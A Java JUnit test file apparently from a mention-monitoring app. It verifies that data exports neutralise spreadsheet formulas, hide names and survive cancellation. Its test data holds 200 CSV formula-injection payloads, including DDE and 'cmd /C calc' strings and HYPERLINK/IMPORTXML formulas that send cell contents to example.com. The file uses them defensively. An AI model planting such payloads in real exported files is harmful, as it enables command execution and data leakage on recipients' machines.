package earshot.archive;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import earshot.archive.Exports.Format;
import earshot.language.redact.Profile;
import earshot.language.redact.Redaction;
import earshot.model.BrandId;
import earshot.model.DateSource;
import earshot.model.JournalAction;
import earshot.model.Label;
import earshot.model.Mention;
import earshot.model.MentionId;
import earshot.model.MentionPage;
import earshot.model.PageToken;
import earshot.model.Provenance;
import earshot.model.Shown;
import earshot.model.SourceId;
import earshot.model.SourceKind;
import earshot.model.SourceRole;
import earshot.model.Status;
import earshot.storage.Database;
import earshot.storage.Filled;
import earshot.storage.Progress;
import earshot.storage.Stores;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CancellationException;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// Files for others are safe to open and hold what was chosen, no more.
class ExportsTest {
  private static final Instant NOW = Instant.parse("2026-11-20T12:00:00Z");
  private static final List<String> FORMULAS = formulas();

  @TempDir private Path folder = Path.of("");
  private Database database;
  private Exports exports;

  @BeforeEach
  void open() {
    Filled.make(folder.resolve("w"), 20);
    database = Filled.open(folder.resolve("w"));
    exports = new Exports(new Stores(database).journal(), "ana");
  }

  @AfterEach
  void close() {
    database.close();
  }

  @Test
  void noCellOfATableIsAFormula() throws IOException {
    assertEquals(200, FORMULAS.size());
    Path file = written(Format.CSV, Profile.NOTHING_HIDDEN, false);

    int cells = 0;
    List<NamedCsvRecord> rows = read(file);
    for (int i = 0; i < rows.size(); i++) {
      for (String cell : rows.get(i).getFields()) {
        assertFalse(runs(cell.strip()), cell);
        cells++;
      }
      for (String column : List.of("title", "text", "author", "handle", "link", "source")) {
        String cell = rows.get(i).getField(column);
        String rest = cell.startsWith("'") ? cell.substring(1) : cell;
        assertEquals(Shown.line(FORMULAS.get(i)), rest, column);
      }
    }
    assertEquals(200, rows.size());
    assertEquals(200 * MentionCells.NAMES.size(), cells);
  }

  @Test
  void aTableForProgramsHoldsEveryCellAsItIs() throws IOException {
    List<NamedCsvRecord> rows = read(written(Format.RAW_CSV, Profile.NOTHING_HIDDEN, false));

    for (int i = 0; i < rows.size(); i++) {
      assertEquals(FORMULAS.get(i), rows.get(i).getField("text"));
    }
  }

  @Test
  void objectsHoldWhatTablesDo() throws IOException {
    Path file = written(Format.JSONL, Profile.NOTHING_HIDDEN, true);
    List<JsonNode> lines =
        Files.readString(file).lines().map(JsonMapper.builder().build()::readTree).toList();

    assertEquals(200, lines.size());
    assertEquals(FORMULAS.get(7), lines.get(7).path("text").asString());
    assertEquals("Northwind", lines.get(7).path("brands").get(0).asString());
    assertEquals("negative", lines.get(7).path("label").asString());
  }

  @Test
  void namesAreHiddenEverywhereInTheFile() throws IOException {
    for (Format format : Format.values()) {
      Path file = folder.resolve("hidden-" + format);
      Mention ana =
          mention(
              1,
              "thanks @ana_torres, mail ana@example.com",
              "Ana Torres",
              "@ana_torres",
              "https://mastodon.example/@ana_torres/1?utm_source=x");
      exports.write(
          wanted(List.of(ana, ana)),
          writing(format, Profile.NAMES_HIDDEN, false),
          file,
          Progress.NONE);
      String text = Files.readString(file);
      assertFalse(text.toLowerCase(java.util.Locale.ROOT).contains("ana_torres"), text);
      assertFalse(text.contains("Ana") || text.contains("example.com"), text);
      assertTrue(text.contains("Author "), text);
    }
  }

  @Test
  void theMarkOfUtf8StandsInFrontWhenItIsWished() throws IOException {
    byte[] marked = Files.readAllBytes(written(Format.CSV, Profile.NOTHING_HIDDEN, true));

    assertEquals("\uFEFF\"id\"", new String(marked, 0, 7, UTF_8));
  }

  @Test
  void aCancelledExportLeavesTheFormerFileAlone() throws IOException {
    Path file = folder.resolve("former.csv");
    Files.writeString(file, "former");
    Progress stop =
        (done, of) -> {
          if (done > 0) throw new CancellationException();
        };

    assertThrows(
        CancellationException.class,
        () ->
            exports.write(
                wanted(mentions()),
                writing(Format.CSV, Profile.NOTHING_HIDDEN, false),
                file,
                stop));

    assertEquals("former", Files.readString(file));
    try (Stream<Path> files = Files.list(folder)) {
      assertTrue(files.noneMatch(each -> each.toString().endsWith(".part")));
    }
  }

  @Test
  void anExportIsNotedWithoutItsWords() throws IOException {
    written(Format.CSV, Profile.NAMES_HIDDEN, false);

    var entry = new Stores(database).journal().page(Optional.empty(), 1).getFirst();
    assertEquals(JournalAction.EXPORTED.words(), entry.action());
    assertTrue(entry.object().startsWith("export:csv rows=200 hiding=names-hidden file="));
  }

  @Test
  @Tag("soak")
  void aMillionMentionsAreWrittenInBoundedMemory() throws IOException {
    List<Mention> page = new ArrayList<>();
    for (int i = 0; i < 2_000; i++) {
      page.add(
          mention(
              i + 1,
              "The new grinder of @northwind is loud, call 020 7946 0958 or see "
                  + "https://example.com/a?utm_source=x for number "
                  + i,
              "Author number " + i,
              "author" + i,
              "https://example.com/posts/" + i));
    }
    Exports.Wanted million =
        new Exports.Wanted(
            "all",
            1_000_000,
            (after, limit) -> {
              long from = after.map(token -> token.id().value()).orElse(0L) + page.size();
              return new MentionPage(
                  page,
                  from >= 1_000_000
                      ? Optional.empty()
                      : Optional.of(new PageToken(NOW, new MentionId(from))));
            });
    for (Format format : List.of(Format.CSV, Format.JSONL)) {
      Path file = folder.resolve("million-" + format);
      long[] most = new long[1];
      long begun = System.nanoTime();
      Exports.Made made =
          exports.write(
              million,
              writing(format, Profile.NAMES_HIDDEN, false),
              file,
              (done, of) -> {
                if (done % 200_000 == 0) most[0] = Math.max(most[0], used());
              });
      System.err.printf(
          "exported format=%s mentions=%d bytes=%d seconds=%.1f heapMB=%d%n",
          format, made.mentions(), made.bytes(), (System.nanoTime() - begun) / 1e9, most[0] >> 20);
      assertEquals(1_000_000, made.mentions());
      assertTrue(most[0] < 256L << 20);
    }
  }

  private static long used() {
    System.gc();
    Runtime runtime = Runtime.getRuntime();
    return runtime.totalMemory() - runtime.freeMemory();
  }

  private Path written(Format format, Profile profile, boolean marked) {
    Path file = folder.resolve("out-" + format);
    Exports.Made made =
        exports.write(wanted(mentions()), writing(format, profile, marked), file, Progress.NONE);
    assertEquals(200, made.mentions());
    return file;
  }

  private static Exports.Writing writing(Format format, Profile profile, boolean marked) {
    return new Exports.Writing(
        format, marked, Redaction.of(profile, 1), Map.of(new BrandId(1), "Northwind"));
  }

  /// Hands out pages of 30.
  private static Exports.Wanted wanted(List<Mention> all) {
    return new Exports.Wanted(
        "words",
        all.size(),
        (after, limit) -> {
          int from = after.map(token -> (int) token.id().value()).orElse(0);
          int to = Math.min(all.size(), from + 30);
          Optional<PageToken> next =
              to == all.size()
                  ? Optional.empty()
                  : Optional.of(new PageToken(NOW, new MentionId(to)));
          return new MentionPage(all.subList(from, to), next);
        });
  }

  private static List<Mention> mentions() {
    List<Mention> mentions = new ArrayList<>();
    for (int i = 0; i < FORMULAS.size(); i++) {
      String formula = FORMULAS.get(i);
      mentions.add(mention(i + 1, formula, formula, formula, formula));
    }
    return mentions;
  }

  private static Mention mention(int id, String text, String author, String handle, String url) {
    return new Mention(
        new MentionId(id),
        NOW,
        NOW,
        new Mention.Origin(
            new SourceId(1),
            text,
            SourceKind.FEED,
            SourceRole.COMMUNITY,
            Provenance.POLLED,
            Optional.of(NOW),
            DateSource.PUBLISHED),
        new Mention.Content(text, text, author, handle, url, "en", Optional.empty()),
        Status.NEW,
        List.of(new Mention.BrandMark(new BrandId(1), Label.NEGATIVE, Optional.of(-0.5), false)));
  }

  private static List<NamedCsvRecord> read(Path file) throws IOException {
    try (CsvReader<NamedCsvRecord> reader = CsvReader.builder().ofNamedCsvRecord(file)) {
      return reader.stream().toList();
    }
  }

  private static boolean runs(String cell) {
    return !cell.isEmpty() && "=+-@\t\r\n＝＋－＠".indexOf(cell.charAt(0)) >= 0;
  }

  private static List<String> formulas() {
    List<String> starts =
        List.of(
            "=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u00A0=", "=\t",
            "@=", "-+", "=\"", "+'", "\u200B=", "--");
    List<String> ends =
        List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
            "IMPORTXML(CONCAT(\"https://example.com/\",A1),\"//a\")",
            "SUM(A1:A9)*1",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "2+5+cmd|'/C calc'!A0",
            "WEBSERVICE(\"https://example.com\")",
            "rm -rf, \"quoted\" and; more",
            "α 感谢 😀");
    List<String> all = new ArrayList<>();
    for (String start : starts) for (String end : ends) all.add(start + end);
    return all;
  }
}
